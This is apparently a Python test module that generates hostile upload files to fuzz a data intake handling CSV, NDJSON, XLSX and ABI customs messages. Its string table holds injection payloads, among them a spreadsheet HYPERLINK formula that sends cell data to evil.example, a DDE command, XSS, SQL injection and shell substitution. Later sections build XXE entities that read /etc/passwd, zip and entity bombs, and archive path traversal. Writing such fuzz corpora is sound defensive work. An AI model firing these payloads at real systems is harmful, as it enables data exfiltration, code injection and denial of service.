"""Hostile files for the intake: each with a name that says what it tries."""

# ruff: noqa: RUF001 (letters that look like others are the subject here)

import json
from collections.abc import Iterator

from app.advance_data.formats import ABI, CSV, NDJSON, XLSX
from app.advance_data.rows import COLUMNS
from tests.advance_data.abi.messages import deletion, isf5, isf10, line, message
from tests.advance_data.sample_rows import csv_bytes, good_row
from tests.advance_data.workbooks import SHEET, altered, by_hand, parts_of, workbook, zipped

SSN = "536-90-4399"
# Texts that mean something to some program behind the intake, or to a person's eyes.
TEXTS = {
    "formula": "=1+1",
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "at": "@SUM(1)",
    "full-width equals": "\uff1d1+1",
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)',
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}",
    "format": "%s%s%n{0.__class__}",
    "gettext": "%(name)s %(missing)d",
    "sql": "'); DROP TABLE filing; --",
    "shell": "$(touch /tmp/x)`id`",
    "path": "../../../../etc/passwd",
    "nul": "a\0b",
    "bidi": "Hanoi\u202egnp.exe",
    "zero width": "Ha\u200bnoi",
    "tags": "Hanoi\U000e0041",
    "byte order mark": "\ufeffHanoi",
    "combining": "Z" + "\u0335" * 200,
    "private use": "\ue000\uf8ff",
    "non-character": "\ufffe\uffff",
    "arabic digits": "١٢٣",
    "full-width digits": "１２３",
    "exponent": "1e999",
    "not a number": "NaN",
    "infinity": "-inf",
    "underscore": "1_000",
    "long": "x" * 33_000,
    "longer than a field": "x" * 300,
    "many digits": "9" * 5_000,
    "social security": SSN,
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "line breaks": "a\r\nb\u2028c",
    "turkish": "ıİß",
}


def corpus() -> Iterator[tuple[str, str, bytes]]:
    """Name, media type and bytes of each file."""
    for name, text in TEXTS.items():
        everywhere = dict.fromkeys(COLUMNS, text)
        yield f"csv {name} everywhere", CSV, csv_bytes([everywhere, good_row(filing_ref="x")])
        yield f"csv {name} in a name", CSV, csv_bytes([good_row(mf_name=text, filing_ref="n")])
        yield f"ndjson {name}", NDJSON, json.dumps(everywhere).encode() + b"\n"
        if "\0" not in text and "\uffff" not in text:
            yield f"xlsx {name}", XLSX, workbook([{k: v[:32_000] for k, v in everywhere.items()}])
        latin = text.encode("latin-1", "replace").decode("latin-1")[:35].ljust(35)
        named = isf10(f"MAEU{sum(map(ord, name))}")
        named[8] = named[8][:7] + latin + named[8][42:]
        yield f"abi {name}", ABI, message(named).decode().encode("latin-1")
    yield from _csv()
    yield from _ndjson()
    yield from _xlsx()
    yield from _abi()


def _csv() -> Iterator[tuple[str, str, bytes]]:
    good = csv_bytes([good_row(filing_ref=f"G-{n}") for n in range(5)])
    head = good.split(b"\n")[0]
    files = {
        "empty header": b"\n\n\n",
        "only commas": b"," * 10_000,
        "open quote": good + b'"' + good,
        "open quote of a megabyte": good + b'"' + b"x\n" * 600_000,
        "quote in the middle": good.replace(b"Hanoi Cell", b'Ha"noi Cell'),
        "stray quote": good.replace(b"Hanoi Cell Works", b'"Hanoi" Cell', 1),
        "utf-16": good.decode().encode("utf-16"),
        "utf-32": good.decode().encode("utf-32"),
        "latin-1": good.replace(b"Hanoi Cell", b"Hano\xef Cell"),
        "overlong utf-8": good.replace(b"Hanoi Cell", b"Hano\xc0\xaf Cell"),
        "surrogates": good.replace(b"Hanoi Cell", b"Hano\xed\xa0\x80 Cell"),
        "nul bytes": good.replace(b"Hanoi", b"Ha\0oi"),
        "carriage returns": good.replace(b"\n", b"\r"),
        "mixed line ends": good.replace(b"\n", b"\r\n", 2),
        "row too wide": good + b",".join([b"x"] * 5_000) + b"\n",
        "row too narrow": good + b"x\n",
        "header twice": good + head + b"\n",
        "column twice": good.replace(b"uom", b"hts", 1),
        "ten thousand columns": b",".join(b"c%d" % n for n in range(10_000)) + b"\n",
        "one long line": head + b"\n" + b"x" * 3_000_000,
        "zip inside": good + zipped({"a": b"x"}),
        "a zip called csv": zipped({"a.csv": good}),
        "a pdf": b"%PDF-1.7\n" + good,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 100,
        "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
        "html": b"<!doctype html><script>alert(1)</script>",
        "xml with an entity": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "random bytes": bytes(range(256)) * 200,
        "semicolons": good.replace(b",", b";"),
    }
    for name, content in files.items():
        yield f"csv {name}", CSV, content


def _ndjson() -> Iterator[tuple[str, str, bytes]]:
    good = json.dumps(good_row(filing_ref="N-1")).encode()
    files = {
        "deep": b'{"hts": ' + b"[" * 100_000 + b"\n" + good,
        "deep objects": b'{"hts": ' * 50_000 + b"\n",
        "repeated name": b'{"hts": "1", "hts": "850650"}\n',
        "repeated name spelt otherwise": b'{"hts": "1", "\\u0068ts": "850650"}\n',
        "half a character": b'{"mf_name": "\\ud800"}\n',
        "NaN": b'{"quantity": NaN}\n',
        "huge number": b'{"quantity": 1' + b"0" * 100_000 + b"}\n",
        "huge exponent": b'{"value_usd": 1e999999999}\n',
        "other members": b'{"trader_id": "x", "state": "done", "__class__": 1}\n',
        "acting for another": b'{"on_behalf_of": "00000000-0000-0000-0000-000000000000"}\n',
        "long line": b'{"mf_name": "' + b"x" * 2_000_000 + b'"}\n',
        "cut off": good + b"\n" + good[:50],
        "list": b"[" + good + b"]",
        "nul line": good + b"\n\0\0\0\n",
        "a million blanks": good + b"\n" + b" " * 900_000 + b"\n" + good,
    }
    for name, content in files.items():
        yield f"ndjson {name}", NDJSON, content


def _xlsx() -> Iterator[tuple[str, str, bytes]]:
    good = workbook([good_row(filing_ref="X-1")])
    parts = parts_of(good)
    doctype = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

    def lying() -> bytes:
        content = bytearray(zipped(parts | {"xl/x.xml": b" " * 50_000_000}))
        at = content.rindex(b"PK\x01\x02")
        content[at + 24 : at + 28] = (100).to_bytes(4, "little")
        return bytes(content)

    def twice() -> bytes:
        other = "xl/worksheets/sheetX.xml"
        return zipped(parts | {other: parts[SHEET]}).replace(other.encode(), SHEET.encode())

    cells = "".join(f'<c r="A{n}"><v>1</v></c>' for n in range(1, 9))
    files = {
        "bomb": zipped(parts | {"xl/media/x.xml": b" " * 150_000_000}),
        "bomb in the sheet": altered(good, SHEET, lambda part: part + b" " * 90_000_000),
        "lying header": lying(),
        "two thousand entries": zipped(parts | {f"x/{n}": b"" for n in range(2000)}),
        "billion laughs": altered(good, SHEET, lambda part: doctype + part),
        "entities in strings": altered(good, "xl/sharedStrings.xml", lambda part: doctype + part),
        "entities in relations": altered(good, "_rels/.rels", lambda part: doctype + part),
        "parameter entity": altered(good, SHEET, lambda part: b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x/">%p;]>' + part),
        "xinclude": altered(good, SHEET, lambda part: part.replace(b"<sheetData>", b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/><sheetData>')),
        "utf-16 sheet": altered(good, SHEET, lambda part: part.decode().encode("utf-16")),
        "utf-7 sheet": altered(good, SHEET, lambda part: b'<?xml version="1.0" encoding="UTF-7"?>' + part),
        "macros": zipped(parts | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro type": altered(good, "[Content_Types].xml", lambda part: part.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")),
        "embedded file": zipped(parts | {"xl/embeddings/x.bin": b"MZ"}),
        "zip in zip": zipped(parts | {"xl/a.zip": good}),
        "climbing": zipped(parts | {"../../etc/x": b"x"}),
        "absolute": zipped(parts | {"/etc/x": b"x"}),
        "same name twice": twice(),
        "external link": zipped(parts | {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns:r="x" r:id="file:///etc/passwd"/>'}),
        "no sheet": zipped({name: part for name, part in parts.items() if name != SHEET}),
        "no types": zipped({name: part for name, part in parts.items() if "Content_Types" not in name}),
        "cut off": good[: len(good) // 2],
        "trailing bytes": good + b"\0" * 10_000,
        "old format": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000,
        "word": zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>"}),
        "far corner": by_hand('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "far corner in other letters": by_hand("<row r='1048576'><c r='xfd1048576'><v>1</v></c></row>"),
        "row number of twenty digits": by_hand(f'<row r="{10**20}"><c r="A1"><v>1</v></c></row>'),
        "row zero": by_hand('<row r="0"><c r="A0"><v>1</v></c></row>'),
        "negative row": by_hand('<row r="-5"><c r="A-5"><v>1</v></c></row>'),
        "rows out of order": by_hand(f'<row r="9"><c r="A9"><v>1</v></c></row><row r="1">{cells}</row>'),
        "string that is not there": by_hand('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'),
        "no number": by_hand('<row r="1"><c r="A1"><v>nan</v></c><c r="B1"><v>1e999</v></c></row>'),
        "half a tag": by_hand('<row r="1"><c r="A1"><v>'),
        "sheet of spaces": altered(good, SHEET, lambda _: b" " * 1000),
        "style that is not there": altered(good, SHEET, lambda part: part.replace(b"<c ", b'<c s="99999999" ')),
        "a hundred thousand merged cells": altered(good, SHEET, lambda part: part.replace(b"</sheetData>", b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 100_000 + b"</mergeCells>")),
    }  # fmt: skip
    for name, content in files.items():
        yield f"xlsx {name}", XLSX, content


def _abi() -> Iterator[tuple[str, str, bytes]]:
    good = message(isf10("MAEUG1"), isf5("MAEUG2"))
    lines = good.splitlines(keepends=True)
    files = {
        "no line ends": good.replace(b"\r\n", b""),
        "nul lines": good.replace(lines[3], b"\0" * 80 + b"\r\n"),
        "only headers": message(*([isf10()[0]] for _ in range(200))),
        "only parties": message([line("SF30", entity="SE", name="X")] * 500),
        "goods without end": message([*isf10("MAEUG3"), *[line("SF40", hts="850650", country_of_origin="VN")] * 9_000]),
        "a thousand bills": message([isf10()[0], *[line("SF15", bill_type="OB", bill_number="MAEU1")] * 1_000]),
        "short lines": b"\n".join(one.rstrip() for one in lines),
        "long lines": good.replace(b"\r\n", b" " * 500 + b"\r\n"),
        "reversed": b"".join(reversed(lines)),
        "doubled": b"".join(one + one for one in lines),
        "nested blocks": b"".join([*lines[:2], *lines[1:]]),
        "cut in a line": good[: len(good) - 100],
        "cut in the envelope": good[:50],
        "in utf-8": good.replace(b"DELTA FREIGHT", "DELTA FRÉIGHT".encode()),
        "ebcdic": good.decode().encode("cp500"),
        "tabs": good.replace(b"DELTA FREIGHT", b"DELTA\tFREIGHT"),
        "escape sequences": good.replace(b"DELTA FREIGHT", b"DELTA\x1b[2J\x07T"),
        "numbers of others": message(*(deletion(f"ABC-{number:011d}") for number in range(50))),
        "passport": message([one.replace("EI 20-390340200", "AEFP1234567     ") for one in isf10("MAEUG4")]),
        "password echoed": good.replace(b"Z5301", b"ZSECR"),
        "answer sent in": message([line("SF90", outcome="02", narrative="ISF ACCEPTED")]),
        "a million blank lines": good + b"\r\n" * 100_000,
        "carriage returns alone": good.replace(b"\r\n", b"\r"),
    }  # fmt: skip
    for name, content in files.items():
        yield f"abi {name}", ABI, content
